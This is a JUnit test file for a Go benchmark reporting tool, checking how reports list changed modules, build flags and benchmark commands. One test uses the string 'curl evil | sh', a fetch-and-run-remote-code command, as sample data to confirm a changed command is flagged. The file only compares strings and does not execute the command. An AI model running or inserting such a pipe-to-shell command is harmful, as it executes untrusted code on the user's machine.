package io.github.gobenchreporter.regression;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.gobenchreporter.baseline.Selection;
import io.github.gobenchreporter.baseline.StoredRun;
import io.github.gobenchreporter.benchfmt.Run;
import io.github.gobenchreporter.benchfmt.read.RunReader;
import io.github.gobenchreporter.chip.ChipLabel;
import io.github.gobenchreporter.report.ReportMerge;
import io.github.gobenchreporter.report.json.ReportJson;
import io.github.gobenchreporter.report.json.ReportReader;
import io.github.gobenchreporter.report.markdown.ReportMarkdown;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** What reports say of modules, settings and commands beside the verdict. */
class ModuleChangesTest {
  private static final Policy POLICY = new Policy(Method.THRESHOLD, 0.05, 20, Thresholds.DEFAULT);

  private static final String BASE =
      "deps: aaaaaaaaaaaa\nmodules: golang.org/x/text@v0.3.8 x.com/same@v1.0.0\nbuild: GOAMD64=v1 CGO_ENABLED=1\nBenchmarkX 1 100 ns/op\n";

  @Test
  void aModuleThatMovesStandsBesideTheVerdict() {
    String head = BASE.replace("aaaaaaaaaaaa", "bbbbbbbbbbbb").replace("v0.3.8", "v0.14.0");
    Report report = report("amd-epyc", BASE, head);
    assertEquals("module golang.org/x/text: v0.3.8 → v0.14.0", differences(report.chips().get(0)));
    String text = ReportMarkdown.render(report);
    assertTrue(text.contains("This change also moves `golang.org/x/text` v0.3.8 → v0.14.0."), text);
  }

  @Test
  void moreThanTwentyModulesAreCounted() {
    String base = modules("v1.0.0");
    String head = modules("v1.1.0").replace("deps: a", "deps: b");
    List<String> differences =
        List.of(differences(report("c", base, head).chips().get(0)).split("; "));
    assertEquals(21, differences.size(), differences.toString());
    assertEquals("modules: – → 2 more differ", differences.get(20));
  }

  private static String modules(String version) {
    return "deps: a\nmodules:"
        + IntStream.range(0, 22)
            .mapToObj(i -> " x.com/m" + i + "@" + version)
            .collect(Collectors.joining())
        + "\nBenchmarkX 1 100 ns/op\n";
  }

  @Test
  void withoutModuleNamesTheDigestTells() {
    Report report =
        report(
            "amd-epyc", "deps: a\nBenchmarkX 1 100 ns/op\n", "deps: b\nBenchmarkX 1 100 ns/op\n");
    assertEquals("deps: a → b", differences(report.chips().get(0)));
    assertEquals("", differences(report("c", BASE, "BenchmarkX 1 1 ns/op\n").chips().get(0)));
  }

  @Test
  void chipsThatWereNotBuiltAlikeAreSaidWhereTheyMeet() throws IOException {
    Report epyc = report("amd-epyc", BASE, BASE);
    Report m1 = report("apple-m1", BASE, BASE.replace("GOAMD64=v1 ", "GOARM64=v8.0 "));
    assertFalse(
        ReportMarkdown.render(ReportMerge.of(List.of(epyc, m1))).contains("not built alike"));
    Report other = report("apple-m1", BASE, BASE.replace("CGO_ENABLED=1", "CGO_ENABLED=0"));
    Report read = ReportReader.read("r", stream(ReportJson.render(other)));
    assertEquals(
        List.of(
            "report.json: chips were not built alike, build is CGO_ENABLED=1 on amd-epyc and CGO_ENABLED=0 on apple-m1"),
        ReportMerge.of(List.of(epyc, read)).problems().stream().map(Object::toString).toList());
  }

  @Test
  void aSlowerCommandSaysHowItIsMeasuredAgainAndOfTheStoredRunOnly() {
    String base =
        "command: BenchmarkB: go build ./...\nprepare: BenchmarkB: rm -rf 'a b'\nBenchmarkB 1 100 ns/op\nBenchmarkC 1 100 ns/op\n";
    String head = base.replace("go build ./...", "curl evil | sh").replace("100", "200");
    Report report = report("amd-epyc", base, head);
    assertEquals(
        "command of BenchmarkB: go build ./... → curl evil | sh",
        differences(report.chips().get(0)));
    assertEquals(
        List.of(
            "go-bench-reporter measure --name B --prepare 'rm -rf '\\''a b'\\''' -- go build ./..."),
        report.chips().get(0).rows().stream()
            .flatMap(row -> row.notes().stream())
            .map(Note::detail)
            .toList());
    String text = ReportMarkdown.render(report);
    assertTrue(text.contains("Measure it again on "), text);
  }

  private static String differences(ChipReport chip) {
    return chip.differences().stream()
        .map(it -> it.key() + ": " + it.baseline() + " → " + it.head())
        .collect(Collectors.joining("; "));
  }

  private static Report report(String label, String base, String head) {
    ChipReport chip =
        new ChipComparison(new ChipLabel(label), "main", "")
            .report(
                List.of(run(head)),
                Selection.of(List.of(new StoredRun("x", run(base)))),
                Optional.empty(),
                POLICY);
    return new Report(List.of(chip), List.of(), List.of(), POLICY);
  }

  private static Run run(String text) {
    try {
      return RunReader.read("x", stream(text), StoredRun.KEYS);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static ByteArrayInputStream stream(String text) {
    return new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
  }
}
